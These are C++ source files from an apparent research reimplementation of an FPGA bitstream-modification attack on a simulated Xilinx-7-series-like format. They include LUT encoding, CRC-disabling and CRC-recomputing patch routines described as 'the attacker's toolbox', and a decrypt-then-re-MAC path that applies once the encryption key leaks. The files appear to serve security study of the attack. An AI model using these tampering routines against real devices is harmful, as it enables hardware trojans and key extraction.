  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
