// LUT truth-table <-> bitstream coding for our 7-series-like format.
//
// A 64-bit truth table F is first permuted by the bijection xi of the
// paper's Table I (B = xi(F)), then partitioned into r = 4 sub-vectors of 16
// bits (B1 = B[0..15], ..., B4 = B[48..63]) which are stored as 2-byte
// chunks at a fixed byte offset d from each other, in one of two orders:
// B1,B2,B3,B4 for SLICEL and B4,B3,B1,B2 for SLICEM (Section V-A).
#pragma once

#include <array>
#include <cstdint>
#include <span>

#include "common/bits.h"
#include "mapper/packing.h"

namespace sbm::bitstream {

inline constexpr unsigned kSubVectors = 4;   // r
inline constexpr unsigned kChunkBytes = 2;   // 16 bits

/// xi-position of F[i] (Table I): bit i of the truth table lands at bit
/// xi_table()[i] of the permuted vector B.
const std::array<u8, 64>& xi_table();

/// B = xi(F).
u64 xi_permute(u64 f);

/// F = xi^{-1}(B).
u64 xi_inverse(u64 b);

/// Sub-vector storage order for a slice type: order[c] says which B_j
/// (0-based) is stored as the c-th chunk.
std::array<u8, 4> chunk_order(mapper::SliceType type);

/// The two orders used by the device family, in a form FINDLUT can iterate.
const std::array<std::array<u8, 4>, 2>& device_chunk_orders();

/// Little-endian 16-bit chunk stored at byte position `pos`.
inline u16 read_chunk16(std::span<const u8> bytes, size_t pos) {
  return static_cast<u16>(bytes[pos] | (u16{bytes[pos + 1]} << 8));
}

/// The r stored chunks at byte position l (stride d), in memory order.
std::array<u16, kSubVectors> read_chunks(std::span<const u8> bytes, size_t l, size_t d);

/// Reassembles the stored 64-bit B vector from the chunks at (l, d),
/// assuming chunk c holds sub-vector order[c].
u64 assemble_b(std::span<const u8> bytes, size_t l, size_t d, const std::array<u8, 4>& order);

/// The memory image of B under `order`: bits [16c, 16c+16) of the result are
/// the chunk stored c-th in memory.  assemble_b(bytes, l, d, order) == b
/// exactly when storage_image(b, order) equals the four chunks at (l, d)
/// read in memory order — the comparison the scan engine's first-chunk
/// index is keyed on.
u64 storage_image(u64 b, const std::array<u8, 4>& order);

/// Serializes INIT into 4 chunks of 2 bytes (LSB-first bit packing within a
/// chunk), in the order of `order`.
std::array<std::array<u8, kChunkBytes>, kSubVectors> encode_lut(u64 init,
                                                                const std::array<u8, 4>& order);

/// Reassembles INIT from 4 chunks stored in `order`.
u64 decode_lut(const std::array<std::array<u8, kChunkBytes>, kSubVectors>& chunks,
               const std::array<u8, 4>& order);

}  // namespace sbm::bitstream
