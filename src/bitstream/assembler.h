// Bitstream assembly: placed design -> configuration byte stream.
//
// Layout: physical LUT sites are grouped 200 to a "frame group" of four
// consecutive frames; the four 2-byte sub-vector chunks of one LUT live at
// the same intra-frame offset of the group's four frames, i.e. at byte
// distance d = 404 (one frame) from each other.  Word 50 of every frame is
// reserved (the HCLK row on real parts), so LUT offsets skip bytes 200..203.
// The cipher key (attack-model assumption 2: "the encryption key K is
// stored in the bitstream") occupies the first 16 bytes of a dedicated key
// frame appended after the LUT frames.
#pragma once

#include <vector>

#include "bitstream/format.h"
#include "bitstream/lut_coding.h"
#include "mapper/packing.h"
#include "snow3g/snow3g.h"

namespace sbm::bitstream {

inline constexpr unsigned kSlotsPerGroup = 200;
inline constexpr unsigned kFramesPerGroup = 4;

/// Static geometry shared by the assembler, the device model and the
/// ground-truth evaluation of the attack.
struct Layout {
  size_t fdri_byte_offset = 0;  // offset of the first frame-data byte
  size_t frame_count = 0;       // frames in the FDRI write (incl. key frame)
  size_t site_count = 0;        // physical LUT sites

  /// Intra-frame byte offset of LUT slot s (s < kSlotsPerGroup).
  static size_t slot_offset(size_t slot);

  /// Absolute byte index (FINDLUT's l) of the first chunk of site i.
  size_t site_byte_index(size_t site) const;

  /// Chunk stride d in bytes (one frame).
  static constexpr size_t chunk_stride() { return kFrameBytes; }

  /// Absolute byte index of the embedded key (16 bytes, k0..k3 big-endian).
  size_t key_byte_index() const;

  size_t groups() const { return (site_count + kSlotsPerGroup - 1) / kSlotsPerGroup; }
};

struct AssembledBitstream {
  std::vector<u8> bytes;
  Layout layout;
};

/// Emits the full (unencrypted) bitstream for a placed design with the key
/// embedded.  The CRC register write at the end carries the correct CRC-32C.
AssembledBitstream assemble(const mapper::PlacedDesign& placed, const snow3g::Key& key);

}  // namespace sbm::bitstream
