#include "bitstream/patcher.h"

#include <stdexcept>

namespace sbm::bitstream {

u64 read_lut_init(std::span<const u8> bytes, size_t l, size_t d, const std::array<u8, 4>& order) {
  if (l + 3 * d + kChunkBytes > bytes.size()) throw std::out_of_range("LUT index out of range");
  std::array<std::array<u8, kChunkBytes>, kSubVectors> chunks{};
  for (unsigned c = 0; c < kSubVectors; ++c) {
    chunks[c][0] = bytes[l + c * d];
    chunks[c][1] = bytes[l + c * d + 1];
  }
  return decode_lut(chunks, order);
}

void write_lut_init(std::span<u8> bytes, size_t l, size_t d, const std::array<u8, 4>& order,
                    u64 init) {
  if (l + 3 * d + kChunkBytes > bytes.size()) throw std::out_of_range("LUT index out of range");
  const auto chunks = encode_lut(init, order);
  for (unsigned c = 0; c < kSubVectors; ++c) {
    bytes[l + c * d] = chunks[c][0];
    bytes[l + c * d + 1] = chunks[c][1];
  }
}

size_t disable_crc(std::vector<u8>& bytes) {
  // Walk the packet stream (rather than grepping raw bytes, which could
  // collide with frame data that happens to contain 0x30000001) and zero
  // every CRC write header together with its value words.
  const size_t words = bytes.size() / 4;
  size_t w = 0;
  while (w < words && read_word(bytes, w) != kSyncWord) ++w;
  if (w == words) return 0;
  ++w;

  constexpr u32 kHeaderMask = 0b111u << 29 | 0b11u << 27;
  constexpr u32 kT1 = 0b001u << 29 | 0b10u << 27;
  constexpr u32 kT2 = 0b010u << 29 | 0b10u << 27;
  size_t replaced = 0;
  Reg last_reg = Reg::kCrc;
  while (w < words) {
    const size_t header_pos = w;
    const u32 header = read_word(bytes, w++);
    if (header == 0 || header == kNoop || header == kDummyWord) continue;
    u32 count = 0;
    Reg reg = last_reg;
    if ((header & kHeaderMask) == kT1) {
      reg = static_cast<Reg>((header >> 13) & 0x3FFFu);
      count = header & 0x7FFu;
      last_reg = reg;
    } else if ((header & kHeaderMask) == kT2) {
      count = header & 0x07FFFFFFu;
    } else {
      break;
    }
    if (w + count > words) break;
    if (reg == Reg::kCrc && (header & kHeaderMask) == kT1 && count > 0) {
      write_word(bytes, header_pos, 0);
      for (u32 i = 0; i < count; ++i) write_word(bytes, w + i, 0);
      ++replaced;
    }
    if (reg == Reg::kCmd) {
      for (u32 i = 0; i < count; ++i) {
        if (read_word(bytes, w + i) == static_cast<u32>(Cmd::kDesync)) return replaced;
      }
    }
    w += count;
  }
  return replaced;
}

bool recompute_crc(std::vector<u8>& bytes) {
  // Re-walk the packet stream, accumulating the CRC exactly as the device
  // does, and overwrite the value following each CRC write header.
  const size_t words = bytes.size() / 4;
  size_t w = 0;
  while (w < words && read_word(bytes, w) != kSyncWord) ++w;
  if (w == words) return false;
  ++w;

  constexpr u32 kHeaderMask = 0b111u << 29 | 0b11u << 27;
  constexpr u32 kT1 = 0b001u << 29 | 0b10u << 27;
  constexpr u32 kT2 = 0b010u << 29 | 0b10u << 27;

  ConfigCrc crc;
  Reg last_reg = Reg::kCrc;
  bool patched = false;
  while (w < words) {
    const u32 header = read_word(bytes, w++);
    if (header == 0 || header == kNoop || header == kDummyWord) continue;
    u32 count = 0;
    Reg reg = last_reg;
    if ((header & kHeaderMask) == kT1) {
      reg = static_cast<Reg>((header >> 13) & 0x3FFFu);
      count = header & 0x7FFu;
      last_reg = reg;
    } else if ((header & kHeaderMask) == kT2) {
      count = header & 0x07FFFFFFu;
    } else {
      return false;
    }
    if (w + count > words) return false;
    if (reg == Reg::kCrc) {
      for (u32 i = 0; i < count; ++i) write_word(bytes, w + i, crc.value());
      patched = true;
    } else {
      for (u32 i = 0; i < count; ++i) {
        const u32 v = read_word(bytes, w + i);
        crc.feed(reg, v);
        if (reg == Reg::kCmd && v == static_cast<u32>(Cmd::kRcrc)) crc.reset();
        if (reg == Reg::kCmd && v == static_cast<u32>(Cmd::kDesync)) return patched;
      }
    }
    w += count;
  }
  return patched;
}

}  // namespace sbm::bitstream
