// Configuration-stream parser: what the device's configuration logic does.
//
// Walks the packet stream after the sync word, maintains the running
// CRC-32C, collects FDRI frame data and verifies the CRC register write.
// Following the paper's Section V-B, an attacker may disable the check by
// replacing the "write CRC" command and its value with all-0 words; all-0
// words are ignored by the packet engine, so a zeroed CRC write simply never
// triggers a comparison.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "bitstream/format.h"

namespace sbm::bitstream {

struct ParseResult {
  bool ok = false;
  std::string error;           // non-empty when !ok
  std::vector<u8> frame_data;  // FDRI payload
  size_t fdri_byte_offset = 0; // offset of frame data inside the bitstream
  bool crc_checked = false;    // a CRC register write was seen and matched
  bool desynced = false;
  std::optional<u32> idcode;
};

/// Parses an (unencrypted) bitstream.  CRC mismatch aborts configuration
/// with ok = false, mirroring INIT_B being pulled low.
ParseResult parse_bitstream(std::span<const u8> bytes);

}  // namespace sbm::bitstream
