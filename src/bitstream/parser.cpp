#include "bitstream/parser.h"

namespace sbm::bitstream {
namespace {

constexpr u32 kType1WriteMask = 0b111u << 29 | 0b11u << 27;
constexpr u32 kType1Write = 0b001u << 29 | 0b10u << 27;
constexpr u32 kType2Write = 0b010u << 29 | 0b10u << 27;

}  // namespace

ParseResult parse_bitstream(std::span<const u8> bytes) {
  ParseResult res;
  if (bytes.size() % 4 != 0) {
    res.error = "bitstream not word-aligned";
    return res;
  }
  const size_t words = bytes.size() / 4;

  // Find the sync word.
  size_t w = 0;
  while (w < words && read_word(bytes, w) != kSyncWord) ++w;
  if (w == words) {
    res.error = "no sync word";
    return res;
  }
  ++w;

  ConfigCrc crc;
  Reg last_reg = Reg::kCrc;
  while (w < words && !res.desynced) {
    const u32 header = read_word(bytes, w++);
    if (header == 0 || header == kNoop || header == kDummyWord) continue;

    u32 count = 0;
    Reg reg = last_reg;
    if ((header & kType1WriteMask) == kType1Write) {
      reg = static_cast<Reg>((header >> 13) & 0x3FFFu);
      count = header & 0x7FFu;
      last_reg = reg;
    } else if ((header & kType1WriteMask) == kType2Write) {
      count = header & 0x07FFFFFFu;
    } else {
      res.error = "unknown packet header";
      return res;
    }
    if (w + count > words) {
      res.error = "truncated packet";
      return res;
    }

    switch (reg) {
      case Reg::kCmd:
        for (u32 i = 0; i < count; ++i) {
          const u32 v = read_word(bytes, w + i);
          crc.feed(reg, v);
          if (v == static_cast<u32>(Cmd::kRcrc)) crc.reset();
          if (v == static_cast<u32>(Cmd::kDesync)) res.desynced = true;
        }
        break;
      case Reg::kCrc:
        for (u32 i = 0; i < count; ++i) {
          const u32 expect = read_word(bytes, w + i);
          if (expect != crc.value()) {
            res.error = "CRC mismatch: configuration aborted (INIT_B low)";
            return res;
          }
          res.crc_checked = true;
        }
        break;
      case Reg::kFdri:
        if (count > 0) {
          res.fdri_byte_offset = (w)*4;
          res.frame_data.insert(res.frame_data.end(), bytes.begin() + static_cast<long>(w * 4),
                                bytes.begin() + static_cast<long>((w + count) * 4));
          for (u32 i = 0; i < count; ++i) crc.feed(reg, read_word(bytes, w + i));
        }
        break;
      case Reg::kIdcode:
        for (u32 i = 0; i < count; ++i) {
          const u32 v = read_word(bytes, w + i);
          if (v != kDeviceIdCode) {
            res.error = "IDCODE mismatch";
            return res;
          }
          res.idcode = v;
          crc.feed(reg, v);
        }
        break;
      default:
        for (u32 i = 0; i < count; ++i) crc.feed(reg, read_word(bytes, w + i));
        break;
    }
    w += count;
  }

  res.ok = true;
  return res;
}

}  // namespace sbm::bitstream
