#include "bitstream/secure.h"

#include <algorithm>

namespace sbm::bitstream {

std::vector<u8> protect_bitstream(std::span<const u8> plain, const crypto::Aes256Key& k_e,
                                  const AuthKey& k_a, const crypto::AesBlock& ctr_iv) {
  std::vector<u8> blob;
  blob.reserve(plain.size() + 96);
  blob.insert(blob.end(), k_a.begin(), k_a.end());
  blob.insert(blob.end(), plain.begin(), plain.end());
  blob.insert(blob.end(), k_a.begin(), k_a.end());
  const crypto::Sha256Digest mac = crypto::hmac_sha256(k_a, blob);
  blob.insert(blob.end(), mac.begin(), mac.end());

  crypto::aes256_ctr_xor(k_e, ctr_iv, blob);

  std::vector<u8> out;
  out.reserve(blob.size() + 24);
  out.insert(out.end(), SecureHeader::kMagic.begin(), SecureHeader::kMagic.end());
  out.insert(out.end(), ctr_iv.begin(), ctr_iv.end());
  out.insert(out.end(), blob.begin(), blob.end());
  return out;
}

UnprotectResult unprotect_bitstream(std::span<const u8> enc, const crypto::Aes256Key& k_e) {
  UnprotectResult res;
  constexpr size_t kHeader = 8 + 16;
  constexpr size_t kOverhead = 32 + 32 + 32;  // K_A + K_A copy + HMAC
  if (enc.size() < kHeader + kOverhead) {
    res.error = "too short";
    return res;
  }
  if (!std::equal(SecureHeader::kMagic.begin(), SecureHeader::kMagic.end(), enc.begin())) {
    res.error = "bad magic";
    return res;
  }
  crypto::AesBlock iv{};
  std::copy(enc.begin() + 8, enc.begin() + 24, iv.begin());

  std::vector<u8> blob(enc.begin() + kHeader, enc.end());
  crypto::aes256_ctr_xor(k_e, iv, blob);

  // K_A is stored in two places (Fig. 1); both copies must agree.
  std::copy(blob.begin(), blob.begin() + 32, res.k_a.begin());
  const size_t plain_len = blob.size() - kOverhead;
  AuthKey k_a_copy{};
  std::copy(blob.begin() + 32 + static_cast<long>(plain_len),
            blob.begin() + 64 + static_cast<long>(plain_len), k_a_copy.begin());
  if (res.k_a != k_a_copy) {
    res.error = "K_A copies disagree (wrong K_E?)";
    return res;
  }

  crypto::Sha256Digest stored{};
  std::copy(blob.end() - 32, blob.end(), stored.begin());
  const crypto::Sha256Digest computed = crypto::hmac_sha256(
      res.k_a, std::span<const u8>(blob.data(), blob.size() - 32));
  if (!crypto::digest_equal(stored, computed)) {
    res.error = "HMAC mismatch (reported in BOOTSTS)";
    return res;
  }

  res.plain.assign(blob.begin() + 32, blob.begin() + 32 + static_cast<long>(plain_len));
  res.ok = true;
  return res;
}

}  // namespace sbm::bitstream
