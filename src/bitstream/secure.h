// MAC-then-encrypt bitstream protection (paper Fig. 1) and its attack-side
// inverse.
//
// Protected blob layout (before encryption):
//   [ K_A (32 bytes) | plain bitstream | K_A copy (32 bytes) | HMAC (32) ]
// The HMAC-SHA-256 (keyed with K_A) covers everything before it; the whole
// blob is then encrypted with AES-256-CTR under K_E.  As on the real parts,
// the authentication key K_A travels inside the encrypted envelope — so once
// K_E leaks through a side channel ([16]-[18]), the attacker can decrypt,
// read K_A, patch the bitstream, recompute the HMAC and re-encrypt.
#pragma once

#include <array>
#include <string>
#include <vector>

#include "crypto/aes256.h"
#include "crypto/hmac.h"

namespace sbm::bitstream {

using AuthKey = std::array<u8, 32>;  // K_A

struct SecureHeader {
  static constexpr std::array<u8, 8> kMagic = {'X', 'S', '7', 'E', 'N', 'C', 0, 1};
};

/// Wraps a plain bitstream: MAC with K_A, then encrypt with K_E.
std::vector<u8> protect_bitstream(std::span<const u8> plain, const crypto::Aes256Key& k_e,
                                  const AuthKey& k_a, const crypto::AesBlock& ctr_iv);

struct UnprotectResult {
  bool ok = false;
  std::string error;
  std::vector<u8> plain;  // the inner bitstream
  AuthKey k_a{};          // recovered from the decrypted blob
};

/// Decrypts with K_E, extracts K_A, verifies the HMAC, returns the inner
/// bitstream.  This is both the device's load path and the attacker's entry
/// point once K_E is known.
UnprotectResult unprotect_bitstream(std::span<const u8> enc, const crypto::Aes256Key& k_e);

}  // namespace sbm::bitstream
