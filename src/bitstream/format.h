// Configuration packet format of our 7-series-like bitstream (Section V,
// UG470-style).
//
// A bitstream is a byte sequence: a dummy/bus-width preamble, the sync word
// 0xAA995566, then 32-bit big-endian configuration packets:
//   Type 1:  001 | op(2) | addr(14) | reserved | word_count(11)
//   Type 2:  010 | op(2) | word_count(27)          (follows a Type 1)
// Frame data is written through FDRI in frames of 101 32-bit words.
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "common/bits.h"
#include "crypto/crc32.h"

namespace sbm::bitstream {

inline constexpr u32 kSyncWord = 0xAA995566u;
inline constexpr u32 kDummyWord = 0xFFFFFFFFu;
inline constexpr u32 kBusWidthSync = 0x000000BBu;
inline constexpr u32 kBusWidthDetect = 0x11220044u;
inline constexpr u32 kNoop = 0x20000000u;
inline constexpr u32 kDeviceIdCode = 0x0362D093u;  // Artix-7 XC7A100T

inline constexpr unsigned kFrameWords = 101;
inline constexpr unsigned kFrameBytes = kFrameWords * 4;  // 404

/// Configuration register addresses.
enum class Reg : u32 {
  kCrc = 0x00,
  kFar = 0x01,
  kFdri = 0x02,
  kCmd = 0x04,
  kIdcode = 0x0C,
  kAxss = 0x0D,  // user-access register: we park the cipher key here
};

/// CMD register values.
enum class Cmd : u32 {
  kNull = 0x0,
  kRcrc = 0x7,    // reset CRC register
  kDesync = 0xD,  // end of configuration
};

constexpr u32 type1_write(Reg reg, u32 word_count) {
  return (0b001u << 29) | (0b10u << 27) | (static_cast<u32>(reg) << 13) | (word_count & 0x7FFu);
}
constexpr u32 type2_write(u32 word_count) {
  return (0b010u << 29) | (0b10u << 27) | (word_count & 0x07FFFFFFu);
}

// The header words quoted in the paper.
static_assert(type1_write(Reg::kFdri, 0) == 0x30004000u);
static_assert(type1_write(Reg::kCrc, 1) == 0x30000001u);
static_assert(type1_write(Reg::kCmd, 1) == 0x30008001u);

/// Streaming CRC over (data word, register address) pairs, the quantity the
/// configuration logic accumulates between RCRC and the CRC register write.
/// CRC-32C, as used by the 7-series configuration logic.
class ConfigCrc {
 public:
  ConfigCrc();
  void reset();
  void feed(Reg reg, u32 word);
  u32 value() const { return engine_.value(); }

 private:
  crypto::Crc32Engine engine_;
};

/// 32-bit big-endian word access into a byte buffer.
u32 read_word(std::span<const u8> bytes, size_t word_index);
void write_word(std::span<u8> bytes, size_t word_index, u32 value);
void append_word(std::vector<u8>& bytes, u32 value);

}  // namespace sbm::bitstream
