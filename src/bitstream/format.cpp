#include "bitstream/format.h"

#include "crypto/crc32.h"

namespace sbm::bitstream {

ConfigCrc::ConfigCrc() : engine_(0x82F63B78u) {}

void ConfigCrc::reset() { engine_.reset(); }

void ConfigCrc::feed(Reg reg, u32 word) {
  u8 w[5];
  store_be32(w, word);
  w[4] = static_cast<u8>(static_cast<u32>(reg));
  engine_.update(std::span<const u8>(w, 5));
}

u32 read_word(std::span<const u8> bytes, size_t word_index) {
  return load_be32(bytes.data() + word_index * 4);
}

void write_word(std::span<u8> bytes, size_t word_index, u32 value) {
  store_be32(bytes.data() + word_index * 4, value);
}

void append_word(std::vector<u8>& bytes, u32 value) {
  u8 w[4];
  store_be32(w, value);
  bytes.insert(bytes.end(), w, w + 4);
}

}  // namespace sbm::bitstream
