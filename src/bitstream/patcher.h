// Byte-level bitstream modification utilities — the attacker's toolbox.
//
// All functions operate directly on raw bitstream bytes, independent of the
// placement database: the attacker only knows byte indexes returned by
// FINDLUT.  CRC handling implements both options of Section V-B: disabling
// the check by zeroing the "write CRC" command pair, or recomputing the
// correct CRC-32C and replacing the stored value.
#pragma once

#include <array>
#include <vector>

#include "bitstream/lut_coding.h"
#include "bitstream/format.h"

namespace sbm::bitstream {

/// Reads the 64-bit LUT INIT whose first sub-vector chunk is at byte index
/// `l`, with chunks at stride `d` and stored in `order`.
u64 read_lut_init(std::span<const u8> bytes, size_t l, size_t d, const std::array<u8, 4>& order);

/// Writes a 64-bit LUT INIT at byte index `l` (stride `d`, order `order`).
void write_lut_init(std::span<u8> bytes, size_t l, size_t d, const std::array<u8, 4>& order,
                    u64 init);

/// Disables the CRC check the way the paper does: the command
///   0x30000001 <crc value>
/// is replaced by two all-0 words wherever it appears.  Returns the number
/// of replaced command pairs.
size_t disable_crc(std::vector<u8>& bytes);

/// Recomputes the configuration CRC of a (modified) bitstream and replaces
/// the stored value.  Returns false if no CRC write packet is present.
bool recompute_crc(std::vector<u8>& bytes);

}  // namespace sbm::bitstream
