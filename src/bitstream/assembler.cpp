#include "bitstream/assembler.h"

#include <stdexcept>

namespace sbm::bitstream {

size_t Layout::slot_offset(size_t slot) {
  if (slot >= kSlotsPerGroup) throw std::out_of_range("LUT slot out of range");
  const size_t raw = slot * 2;
  // Skip the reserved HCLK word (bytes 200..203) in the middle of the frame.
  return raw < 200 ? raw : raw + 4;
}

size_t Layout::site_byte_index(size_t site) const {
  if (site >= site_count) throw std::out_of_range("site out of range");
  const size_t group = site / kSlotsPerGroup;
  const size_t slot = site % kSlotsPerGroup;
  return fdri_byte_offset + group * kFramesPerGroup * kFrameBytes + slot_offset(slot);
}

size_t Layout::key_byte_index() const {
  return fdri_byte_offset + (frame_count - 1) * kFrameBytes;
}

AssembledBitstream assemble(const mapper::PlacedDesign& placed, const snow3g::Key& key) {
  AssembledBitstream out;
  Layout& layout = out.layout;
  layout.site_count = placed.phys.size();
  // LUT frames plus one key frame.
  layout.frame_count = layout.groups() * kFramesPerGroup + 1;

  // ---- frame data -----------------------------------------------------------
  std::vector<u8> frames(layout.frame_count * kFrameBytes, 0);
  for (size_t site = 0; site < placed.phys.size(); ++site) {
    const u64 init = placed.init_of(site);
    const auto order = chunk_order(placed.slice_of(site));
    const auto chunks = encode_lut(init, order);
    const size_t group = site / kSlotsPerGroup;
    const size_t off = Layout::slot_offset(site % kSlotsPerGroup);
    for (unsigned c = 0; c < kSubVectors; ++c) {
      const size_t base = (group * kFramesPerGroup + c) * kFrameBytes + off;
      frames[base] = chunks[c][0];
      frames[base + 1] = chunks[c][1];
    }
  }
  // Key frame: k0..k3 big-endian in the first 16 bytes.
  const size_t key_frame = (layout.frame_count - 1) * kFrameBytes;
  for (int w = 0; w < 4; ++w) {
    store_be32(frames.data() + key_frame + 4 * static_cast<size_t>(w), key[static_cast<size_t>(w)]);
  }

  // ---- packet stream --------------------------------------------------------
  std::vector<u8>& b = out.bytes;
  ConfigCrc crc;
  auto emit_reg = [&](Reg reg, u32 word) {
    append_word(b, type1_write(reg, 1));
    append_word(b, word);
    crc.feed(reg, word);
  };

  for (int i = 0; i < 4; ++i) append_word(b, kDummyWord);
  append_word(b, kBusWidthSync);
  append_word(b, kBusWidthDetect);
  append_word(b, kDummyWord);
  append_word(b, kSyncWord);
  append_word(b, kNoop);

  emit_reg(Reg::kCmd, static_cast<u32>(Cmd::kRcrc));
  crc.reset();
  emit_reg(Reg::kIdcode, kDeviceIdCode);

  // FDRI: Type 1 with word count 0, then Type 2 with the payload.
  append_word(b, type1_write(Reg::kFdri, 0));
  const u32 fdri_words = static_cast<u32>(frames.size() / 4);
  append_word(b, type2_write(fdri_words));
  layout.fdri_byte_offset = b.size();
  b.insert(b.end(), frames.begin(), frames.end());
  for (size_t w = 0; w < fdri_words; ++w) {
    crc.feed(Reg::kFdri, read_word(std::span<const u8>(frames), w));
  }

  // CRC check word (not itself accumulated), then desync.
  append_word(b, type1_write(Reg::kCrc, 1));
  append_word(b, crc.value());
  append_word(b, type1_write(Reg::kCmd, 1));
  append_word(b, static_cast<u32>(Cmd::kDesync));
  append_word(b, kNoop);
  append_word(b, kNoop);
  return out;
}

}  // namespace sbm::bitstream
