#include "bitstream/lut_coding.h"

namespace sbm::bitstream {

const std::array<u8, 64>& xi_table() {
  // Transcribed from Table I of the paper ([14] originally).
  static constexpr std::array<u8, 64> kXi = {
      63, 47, 62, 46, 61, 45, 60, 44, 15, 31, 14, 30, 13, 29, 12, 28,
      59, 43, 58, 42, 57, 41, 56, 40, 11, 27, 10, 26, 9,  25, 8,  24,
      55, 39, 54, 38, 53, 37, 52, 36, 7,  23, 6,  22, 5,  21, 4,  20,
      51, 35, 50, 34, 49, 33, 48, 32, 3,  19, 2,  18, 1,  17, 0,  16};
  return kXi;
}

u64 xi_permute(u64 f) {
  const auto& xi = xi_table();
  u64 b = 0;
  for (unsigned i = 0; i < 64; ++i) b |= u64{bit_of(f, i)} << xi[i];
  return b;
}

u64 xi_inverse(u64 b) {
  const auto& xi = xi_table();
  u64 f = 0;
  for (unsigned i = 0; i < 64; ++i) f |= u64{bit_of(b, xi[i])} << i;
  return f;
}

std::array<u8, 4> chunk_order(mapper::SliceType type) {
  return type == mapper::SliceType::kSliceL ? std::array<u8, 4>{0, 1, 2, 3}
                                            : std::array<u8, 4>{3, 2, 0, 1};
}

const std::array<std::array<u8, 4>, 2>& device_chunk_orders() {
  static const std::array<std::array<u8, 4>, 2> kOrders = {
      chunk_order(mapper::SliceType::kSliceL), chunk_order(mapper::SliceType::kSliceM)};
  return kOrders;
}

std::array<u16, kSubVectors> read_chunks(std::span<const u8> bytes, size_t l, size_t d) {
  std::array<u16, kSubVectors> chunks{};
  for (unsigned c = 0; c < kSubVectors; ++c) chunks[c] = read_chunk16(bytes, l + c * d);
  return chunks;
}

u64 assemble_b(std::span<const u8> bytes, size_t l, size_t d, const std::array<u8, 4>& order) {
  u64 b = 0;
  for (unsigned c = 0; c < kSubVectors; ++c) {
    b |= u64{read_chunk16(bytes, l + c * d)} << (16 * order[c]);
  }
  return b;
}

u64 storage_image(u64 b, const std::array<u8, 4>& order) {
  u64 image = 0;
  for (unsigned c = 0; c < kSubVectors; ++c) {
    image |= u64{static_cast<u16>(b >> (16 * order[c]))} << (16 * c);
  }
  return image;
}

std::array<std::array<u8, kChunkBytes>, kSubVectors> encode_lut(u64 init,
                                                                const std::array<u8, 4>& order) {
  const u64 image = storage_image(xi_permute(init), order);
  std::array<std::array<u8, kChunkBytes>, kSubVectors> chunks{};
  for (unsigned c = 0; c < kSubVectors; ++c) {
    const u16 sub = static_cast<u16>(image >> (16 * c));
    chunks[c][0] = static_cast<u8>(sub);
    chunks[c][1] = static_cast<u8>(sub >> 8);
  }
  return chunks;
}

u64 decode_lut(const std::array<std::array<u8, kChunkBytes>, kSubVectors>& chunks,
               const std::array<u8, 4>& order) {
  u64 b = 0;
  for (unsigned c = 0; c < kSubVectors; ++c) {
    const u16 sub = static_cast<u16>(chunks[c][0] | (u16{chunks[c][1]} << 8));
    b |= u64{sub} << (16 * order[c]);
  }
  return xi_inverse(b);
}

}  // namespace sbm::bitstream
