#include "service/job_store.h"

#include <sys/stat.h>
#include <sys/types.h>

#include <algorithm>
#include <cstdio>
#include <cstring>

#include <dirent.h>

#include "common/fsio.h"
#include "common/json.h"

namespace sbm::service {

namespace {

constexpr u64 kRecordVersion = 1;

bool ends_with(std::string_view s, std::string_view suffix) {
  return s.size() >= suffix.size() && s.substr(s.size() - suffix.size()) == suffix;
}

bool starts_with(std::string_view s, std::string_view prefix) {
  return s.substr(0, prefix.size()) == prefix;
}

}  // namespace

std::string job_record_to_json(const JobRecord& rec) {
  JsonWriter w;
  w.begin_object();
  w.field("version", kRecordVersion)
      .field("id", rec.id)
      .field("seq", rec.seq)
      .field("state", std::string(to_string(rec.state)));
  w.key("spec");
  write_job_spec(w, rec.spec);
  w.field("trials_done", rec.trials_done)
      .field("fingerprint", rec.fingerprint)
      .field("all_expected", rec.all_expected)
      .field("resumed_trials", rec.resumed_trials)
      .field("cancelled_trials", rec.cancelled_trials)
      .field("failure", rec.failure);
  if (!rec.report_json.empty()) w.key("report").raw_value(rec.report_json);
  w.end_object();
  return w.str();
}

std::optional<JobRecord> job_record_from_json(std::string_view json) {
  const std::optional<JsonValue> doc = parse_json(json);
  if (!doc || !doc->is_object()) return std::nullopt;
  const JsonValue* version = doc->find("version");
  const JsonValue* id = doc->find("id");
  const JsonValue* state = doc->find("state");
  const JsonValue* spec = doc->find("spec");
  if (version == nullptr || version->as_u64() != kRecordVersion || id == nullptr ||
      id->as_string().empty() || state == nullptr || spec == nullptr) {
    return std::nullopt;
  }
  const auto parsed_state = job_state_from_string(state->as_string());
  auto parsed_spec = job_spec_from_json(*spec);
  if (!parsed_state || !parsed_spec) return std::nullopt;

  JobRecord rec;
  rec.id = id->as_string();
  if (const JsonValue* f = doc->find("seq")) rec.seq = f->as_u64();
  rec.state = *parsed_state;
  rec.spec = std::move(*parsed_spec);
  auto get_size = [&](const char* name, size_t& out) {
    if (const JsonValue* f = doc->find(name)) out = static_cast<size_t>(f->as_u64());
  };
  get_size("trials_done", rec.trials_done);
  if (const JsonValue* f = doc->find("fingerprint")) rec.fingerprint = f->as_u64();
  if (const JsonValue* f = doc->find("all_expected")) rec.all_expected = f->as_bool();
  get_size("resumed_trials", rec.resumed_trials);
  get_size("cancelled_trials", rec.cancelled_trials);
  if (const JsonValue* f = doc->find("failure")) rec.failure = f->as_string();
  if (const JsonValue* f = doc->find("report")) {
    if (!f->is_object()) return std::nullopt;
    rec.report_json = f->dump();
  }
  return rec;
}

JobStore::JobStore(std::string dir) : dir_(std::move(dir)) {
  ::mkdir(dir_.c_str(), 0777);  // EEXIST is fine; deeper failures surface on save
}

std::string JobStore::job_path(const std::string& id) const {
  return dir_ + "/job-" + id + ".json";
}

std::string JobStore::checkpoint_path(const std::string& id) const {
  return dir_ + "/job-" + id + ".checkpoint.json";
}

bool JobStore::save(const JobRecord& rec) const {
  return write_file_atomic(job_path(rec.id), job_record_to_json(rec));
}

void JobStore::remove_checkpoint(const std::string& id) const {
  std::remove(checkpoint_path(id).c_str());
}

JobStore::Loaded JobStore::load_all() const {
  Loaded out;
  DIR* d = ::opendir(dir_.c_str());
  if (d == nullptr) return out;
  while (const dirent* e = ::readdir(d)) {
    const std::string_view name = e->d_name;
    if (ends_with(name, ".tmp")) {
      // Debris from a write interrupted before its rename; the destination
      // file (if any) is still whole, so the temp is safe to sweep.
      std::remove((dir_ + "/" + std::string(name)).c_str());
      continue;
    }
    if (!starts_with(name, "job-") || !ends_with(name, ".json") ||
        ends_with(name, ".checkpoint.json")) {
      continue;
    }
    const auto data = read_file(dir_ + "/" + std::string(name));
